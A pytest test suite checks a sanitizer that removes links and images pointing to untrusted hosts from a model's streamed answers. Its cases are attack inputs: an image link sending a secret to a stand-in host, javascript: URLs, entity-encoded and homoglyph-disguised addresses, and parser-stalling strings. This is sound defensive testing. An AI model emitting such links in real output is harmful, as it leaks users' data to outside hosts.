"""Answers link to trusted hosts alone, also while they grow, whatever a model was talked into writing."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from assistants.addresses import host_of
from assistants.links import without_foreign_links
from tests.rendered_links import rendered_links, rendered_pictures

HOSTS = frozenset({"good.org"})
CORPUS = Path(__file__).parents[2] / "standins/attacks.jsonl"
SPELLINGS = {
    attack["id"]: attack["text"].replace("clay-days.example", "good.org")
    for attack in map(json.loads, CORPUS.read_text("utf-8").splitlines())
    if attack["kind"].startswith("link spelling")
}
FRAGMENTS = (
    "[", "]", "(", ")", "!", "\\", "<", ">", "https://", "HTTP:", "//", "www.", "good.org", " evil.example", "/x?q=1",
    " ", "\n", "word", "h", "data:", "javascript:", "ftp:/", "`", ".", "@", "[a](https://good.org)",
    "![p](https://evil.example/a.png)", "[b][c]", "<https://evil.example>", "](//evil.example)", ":", "&", "#", ";",
    "5", "&#104;", "ttps", "&#58;", "\\/", "&sol;", "&#x77;ww", "mailto:a", "**", "]: ", "\n\n", "[b]", "](", "\\",
    "[b]: https:\\/\\/evil.example", "evil.example",
)  # fmt: skip
texts = st.lists(st.sampled_from(FRAGMENTS), max_size=14).map("".join)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See [us](https://good.org/a) there.", "See [us](https://good.org/a) there."),
        ("See https://www.good.org/a, there.", "See https://www.good.org/a, there."),
        ("See [us](https://evil.example/a) there.", "See [us] there."),
        ("![dot](https://evil.example/a.png?q=secret)", "[dot]"),
        ("![logo](https://good.org/logo.png)", "[logo](https://good.org/logo.png)"),
        ("[![x](https://evil.example/a)](https://evil.example/b)", "[[x]]"),
        ("Go to https://evil.example/a now", "Go to … now"),
        ("Go to www.evil.example now", "Go to … now"),
        ("<https://evil.example>", "…"),
        ("<javascript:alert(1)>", "…"),
        ("[x](javascript:alert(1))", "[x]"),
        ("[x](//evil.example)", "[x]"),
        ("[x]: //evil.example", "[x]\\: …"),
        ("[x]: https://evil.example", "[x]\\: …"),
        ("[x]: https:\\/\\/evil.example", "[x]\\: …"),
        ("[x]: &#104;ttps&#58;&#47;&sol;evil.example", "[x]\\: …"),
        ("[x]: https://good.org", "[x]\\: https://good.org"),
        ("[x]: mailto:a@evil.example?body=b", "[x]\\: …"),
        ("Write to a@evil.example", "Write to a@evil.example"),
        ("<a@evil.example>", "\\<a@evil.example>"),
        ("<&#104;ttps://evil.example>", "…"),
        ("www\\.evil.example, &#119;ww.evil.example", "… …"),
        ("&#10&#52;;ttps:&#&#52;7;/evil.example", "…"),
        ("[x](nothing)(javascript:alert(1))", "[x]\\(javascript:alert(1))"),
        ("[x](nothing): //evil.example", "[x]\\: …"),
        ("[x](https://good.org [y](//evil.example))", "[x](https://good.org/ [y])"),
        ("\\[x](https://good.org).evil.example/", "\\[x](https://good.org/).evil.example/"),
        ("https://good.orghttps://good.org/x", "…"),
        ("https://good.org/?to=https://evil.example", "https://good.org/?to=…"),
        ("[x https://good.org/y](//evil.example)", "[x https://good.org/y]"),
        ("**https://good.org/**https://evil.example", "**https://good.org/**…"),
        ("[x](https://evil.example&sol;.good.org)", "[x]"),
        ("https://evil.example\\.good.org", "…"),
        ('[x](<https://good.org/a> "A title")', '[x](<https://good.org/a> "A title")'),
        ("`https://good.org` | https://good.org|", "`https://good.org` | https://good.org|"),
        ("!![x](https://good.org/a.png)", "[x](https://good.org/a.png)"),
        ("AT&T, R\\&D, a\\_b, &lt;b&gt;, C:\\dir", "AT&T, R\\&D, a\\_b, &lt;b&gt;, C:\\dir"),
        ("[x](\n https://evil.example)", "[x]"),
        ("[x](https://good.org@evil.example)", "[x]"),
        ("[x](https://evil.example\\@good.org)", "[x]"),
        ("[x](https://evil.example/\\)", "[x]\\(…"),
        ("[x](https://good.org.evil.example)", "[x]"),
        ("[x](https://evilgood.org)", "[x]"),
        ("[x](https://g\u043e\u043ed.org)", "[x]"),
        ("[x](https:/\\evil.example)", "[x]"),
        ("xhttps://evil.example", "x…"),
        ("a < b, 1 <2, <b>bold</b>", "a < b, 1 <2, <b>bold</b>"),
        ("n = 7 // 2", "n = 7 // 2"),
        ("Room [A](1), list[0] (first)", "Room [A], list[0] (first)"),
        ("Great!", "Great!"),
    ],
)
def test_foreign_links_go_and_trusted_ones_stay(text: str, shown: str) -> None:
    assert without_foreign_links(text, HOSTS, whole=True) == shown


@given(texts)
def test_nothing_that_was_shown_is_taken_away_again(text: str) -> None:
    """What is shown of each beginning is a beginning of what is shown of the whole, so nothing flickers."""
    whole = without_foreign_links(text, HOSTS, whole=True)
    for length in range(len(text) + 1):
        assert whole.startswith(without_foreign_links(text[:length], HOSTS, whole=False))


@given(texts)
@example("[b][b]\n\n[b]: https:\\/\\/evil.example")
def test_no_foreign_address_and_no_picture_is_left(text: str) -> None:
    """Whatever the pieces are put together to, and however far they have grown."""
    for length in range(len(text) + 1):
        assert_only_trusted(without_foreign_links(text[:length], HOSTS, whole=False))
    assert_only_trusted(without_foreign_links(text, HOSTS, whole=True))


@pytest.mark.parametrize("text", SPELLINGS.values(), ids=SPELLINGS.keys())
def test_no_spelling_of_a_link_leads_elsewhere(text: str) -> None:
    """Markdown decodes addresses, so they are judged decoded; and nothing is left for a link elsewhere to refer to."""
    assert any(host_of(address) not in HOSTS for address in rendered_links(text) or [text]), "no attack"
    for length in range(len(text) + 1):
        assert_only_trusted(without_foreign_links(text[:length], HOSTS, whole=False))
    assert_only_trusted(without_foreign_links(text, HOSTS, whole=True))


def assert_only_trusted(text: str) -> None:
    """Every anchor leads to good.org, as a parser of markdown sees it, and there is no picture."""
    for address in rendered_links(text):
        host = host_of(address)
        assert host is not None, address
        assert host == "good.org" or host.endswith(".good.org"), address
    assert rendered_pictures(text) == []


@given(st.text(alphabet="abc .,;-'\n", max_size=80))
def test_plain_text_is_as_it_was(text: str) -> None:
    """And grows without delay, but for the letters that may begin an address."""
    assert without_foreign_links(text, HOSTS, whole=True) == text
    assert without_foreign_links(text, HOSTS, whole=False) == text


def test_brackets_without_end_are_text() -> None:
    """Each is given up after a few, so that a hostile text can't hold the others up."""
    text = "](" * 4000
    assert without_foreign_links(text, HOSTS, whole=True) == "]\\(" * 4000
    assert len(without_foreign_links(text, HOSTS, whole=False)) > len(text)


@pytest.mark.parametrize(
    "text",
    ["!" * 20_000 + "x", "\\" * 20_000 + "x", "&" * 20_000 + " x", "&#10" * 4000 + "&#52;;" * 2000, "<a" * 9000],
    ids=["marks", "backslashes", "ampersands", "nested entities", "tags"],
)
def test_a_text_made_to_choke_on_is_looked_through_in_time(text: str) -> None:
    """No run of one character is looked at once for each of its characters."""
    began = time.process_time()
    without_foreign_links(text, HOSTS, whole=True)
    without_foreign_links(text, HOSTS, whole=False)
    assert time.process_time() - began < 0.5
